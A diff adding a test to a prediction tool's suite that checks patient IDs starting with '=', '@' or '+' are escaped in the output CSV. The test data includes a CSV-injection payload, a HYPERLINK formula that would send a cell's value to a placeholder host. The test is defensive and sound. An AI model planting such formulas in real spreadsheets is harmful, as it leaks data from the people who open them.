@@ -343,6 +343,22 @@ def test_cli_predict_refuses_values_training_refuses(pristine, study, tmp_path, 
     assert code == 2 and "is a folder; give a file name" in capsys.readouterr().err
 
 
+def test_predictions_csv_holds_no_spreadsheet_formula(pristine, study, tmp_path, capsys):
+    # a patient id read from the department's table is written back out; Excel would run "=HYPERLINK(...)"
+    import csv
+
+    frame = study.cohort.X.copy()
+    ids = [f"P{i}" for i in range(len(frame))]
+    ids[:4] = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "@SUM(A1)", "-12", "+A1"]
+    frame.insert(0, "patient", ids)
+    data, out = tmp_path / "new.csv", tmp_path / "pred.csv"
+    frame.to_csv(data, index=False)
+    assert run_cli(["predict", str(pristine), str(data), "--out", str(out), "--id", "patient"]) == 0
+    with open(out, newline="") as fh:
+        cells = [row[0] for row in csv.reader(fh)][1:5]
+    assert cells == ["'=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")", "'@SUM(A1)", "-12", "'+A1"]
+
+
 @pytest.mark.parametrize("damage", ["forged .npy header (10^10 elements)", "200 MB compressed extra member"])
 def test_forged_sizes_are_refused_before_their_data_is_read(bundle_dir, damage):
     DAMAGE[damage][0](bundle_dir)
